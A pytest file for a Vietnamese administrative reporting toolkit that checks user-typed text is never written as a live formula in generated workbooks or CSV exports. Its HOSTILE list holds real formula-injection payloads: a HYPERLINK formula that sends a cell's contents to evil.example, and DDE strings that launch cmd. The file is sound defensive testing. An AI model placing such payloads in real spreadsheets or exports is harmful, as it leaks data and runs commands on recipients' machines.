"""Formula injection (issue 17): the same hostile strings, typed as text by a school or an
office, reach every writer of user text (annotated copy, consolidated workbook, appraisal,
ranking, links CSV), and nothing any of them writes is a formula."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cchc_xlsx.checking.annotate import write_all
from cchc_xlsx.checking.validate import validate
from cchc_xlsx.forms.generate import generate
from cchc_xlsx.merging.merge import merge, office_from_units
from cchc_xlsx.user_text import FORMULA_LEADS, store_text

from .fill import Filler, fill_clean

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&\'BC Nhiệm vụ\'!A2,"Xem hướng dẫn sửa")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
MARKERS = ("evil.example", "calc", "HYPERLINK", "1+1")


def assert_no_hostile_formula(path: Path, must_hold: list[str]) -> None:
    """No formula cell of ``path`` carries a hostile payload, and each of ``must_hold``
    is stored as text somewhere (so the test saw the strings reach the writer)."""
    wb = load_workbook(path)
    texts: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert not any(m in str(c.value) for m in MARKERS), (path.name, c.coordinate)
                elif isinstance(c.value, str):
                    texts.append(c.value)
    for text in must_hold:
        assert any(text in t for t in texts), (path.name, text)


@pytest.fixture(scope="module")
def hostile_return(tmp_path_factory, plan001, units):
    """A unit's return with the hostile strings typed as text (as Excel stores a cell the
    user typed with a leading apostrophe): one as a task's status (a finding quotes it),
    all as the tasks' difficulties (the consolidated workbook lists them)."""
    out = tmp_path_factory.mktemp("hostile")
    [template] = generate(plan001, units[:1], out / "t", period_id="q1-2023", workers=1)
    f = fill_clean(Filler(template))
    keys = f.keys("report_tasks")
    for key, text in zip([keys[0], *keys[1:len(HOSTILE)]], HOSTILE, strict=True):
        cell = f.cell("report_tasks", key, "difficulties")
        cell.value, cell.data_type = text, "s"
    status = f.cell("report_tasks", keys[0], "status")
    status.value, status.data_type = HOSTILE[0], "s"
    inbox = out / "inbox"
    inbox.mkdir()
    return f.save(inbox / template.name)


def test_store_text_for_csv_prefixes_formula_leads():
    for lead in FORMULA_LEADS:
        assert store_text(f"{lead}1+1") == f"'{lead}1+1"
    assert store_text("Trường Mầm non Sơn Ca") == "Trường Mầm non Sơn Ca"
    assert store_text(None) == ""


def test_annotated_copy_keeps_a_cells_formula_text_as_text(hostile_return, tmp_path):
    report = validate([hostile_return], workers=1)
    assert any(i.value == HOSTILE[0] for i in report.files[0].issues)
    written, failed = write_all(report.files, tmp_path)
    assert not failed and written
    assert_no_hostile_formula(written[0], HOSTILE)


def test_consolidated_workbook_keeps_them_as_text(hostile_return, plan001, units, tmp_path):
    out = tmp_path / "tong-hop.xlsx"
    merge([hostile_return.parent], plan001, units, "q1-2023", out,
          office_from_units(units, plan001), include_invalid=True, workers=1)
    assert_no_hostile_formula(out, HOSTILE)


def test_appraisal_and_ranking_keep_them_as_text(tmp_path):
    from cchc_xlsx.merging.merge_writer import Office
    from cchc_xlsx.scoring.appraisal import write_appraisal
    from cchc_xlsx.scoring.check import LeafScore, UnitScores
    from cchc_xlsx.scoring.criteria import load_criteria
    from cchc_xlsx.scoring.ranking import compute_ranking
    from cchc_xlsx.scoring.ranking_writer import Submission, write_ranking

    from .conftest import ROOT

    crit = load_criteria(ROOT / "criteria" / "par-mau-2025.yaml")
    leaves = [i for i in crit.leaves() if not i.applies_to]
    scores = []
    for n, name in enumerate(HOSTILE):
        got = {item.code: LeafScore(item.max / 2, comment=HOSTILE[k % len(HOSTILE)])
               for k, item in enumerate(leaves)}
        scores.append(UnitScores(f"U{n}", name, got))
    appraisal = write_appraisal(crit, scores, tmp_path / "tham-dinh.xlsx")
    assert_no_hostile_formula(appraisal, HOSTILE)
    subs = [Submission(s.code, s.name, "Hợp lệ", 0, 0, f"{s.name}.xlsx") for s in scores]
    office = Office(superior="UBND QUẬN 8", name="PHÒNG GIÁO DỤC VÀ ĐÀO TẠO QUẬN 8",
                    place="Quận 8", signer_title="TRƯỞNG PHÒNG", signer_name="Nguyễn Văn An",
                    code="PGD-Q8")
    ranking = write_ranking(crit, compute_ranking(crit, scores), scores, subs, office,
                            tmp_path / "xep-hang.xlsx")
    assert_no_hostile_formula(ranking, HOSTILE)


def test_links_csv_neutralises_formula_cells(tmp_path, units):
    from dataclasses import replace

    from cchc_xlsx.web.service import Portal

    from .conftest import PLAN_001

    portal = Portal(tmp_path / "data")
    hostile_units = [replace(u, name=HOSTILE[n % len(HOSTILE)]) for n, u in
                     enumerate(units[:4])]
    rnd, _ = portal.open_round(PLAN_001, hostile_units, "q1-2023")
    rows = list(csv.reader(io.StringIO(portal.links_csv(rnd, "http://t").lstrip("\ufeff"))))
    names = [r[1] for r in rows[1:]]
    assert names == ["'" + h for h in HOSTILE]
    for row in rows:
        assert not any(cell.startswith(FORMULA_LEADS) for cell in row)
    shutil.rmtree(tmp_path / "data")
